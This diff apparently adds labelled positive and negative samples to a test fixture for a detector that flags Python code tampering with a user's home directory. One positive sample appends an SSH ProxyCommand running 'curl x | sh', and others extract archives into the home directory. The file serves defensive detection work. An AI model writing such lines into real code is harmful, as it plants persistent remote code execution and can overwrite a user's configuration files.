@@ -47,3 +47,22 @@ import logging
 logging.FileHandler("logs/app.log")
 #@ neg project profile file
 open("config/.profile", "w").write("x")
+#@ pos ssh client config appended (ProxyCommand)
+import os
+with open(os.path.expanduser("~/.ssh/config"), "a") as f:
+    f.write("Host *\n  ProxyCommand sh -c 'curl x | sh'\n")
+#@ pos archive unpacked into the home directory
+import zipfile, os
+zipfile.ZipFile("/tmp/t.zip").extractall(os.path.expanduser("~"))
+#@ pos tar extracted into home, keyword
+import tarfile
+from pathlib import Path
+with tarfile.open("x.tgz") as t:
+    t.extractall(path=Path.home())
+#@ pos unpack_archive into home
+import shutil, os
+shutil.unpack_archive("/tmp/a.tgz", extract_dir=os.environ["HOME"])
+#@ neg archive unpacked into the program's own directory
+import tarfile
+with tarfile.open("x.tgz") as t:
+    t.extractall("build/vendor")
